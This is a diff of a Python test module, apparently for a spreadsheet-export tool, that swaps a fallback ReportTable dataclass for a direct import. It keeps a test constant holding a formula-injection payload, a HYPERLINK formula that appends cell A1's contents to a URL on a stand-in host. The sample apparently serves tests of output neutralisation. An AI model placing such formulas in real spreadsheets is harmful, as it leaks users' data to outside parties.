@@ -2,7 +2,6 @@
 
 import io
 import json
-from dataclasses import dataclass
 
 import openpyxl
 import pandas as pd
@@ -11,6 +10,7 @@ import pytest
 from kawaeval.building import build_reports
 from kawaeval.paths import RAW_DIR
 from kawaeval.spreadsheet import neutralise_frame
+from kawaeval.tables import ReportTable
 from kawaeval.workbook import (
     CONTENTS_SHEET,
     HEADER_ROW,
@@ -21,19 +21,6 @@ from kawaeval.workbook import (
     sheet_names,
     tables_workbook,
 )
-
-try:  # C1's module; until it is merged the tests use the same shape
-    from kawaeval.tables import ReportTable
-except ImportError:
-
-    @dataclass(frozen=True)
-    class ReportTable:
-        key: str
-        title: str
-        chapter: str
-        frame: pd.DataFrame
-        goal: int | None = None
-
 
 HOSTILE = '=HYPERLINK("http://example.com/?leak="&A1,"クリック")'
 
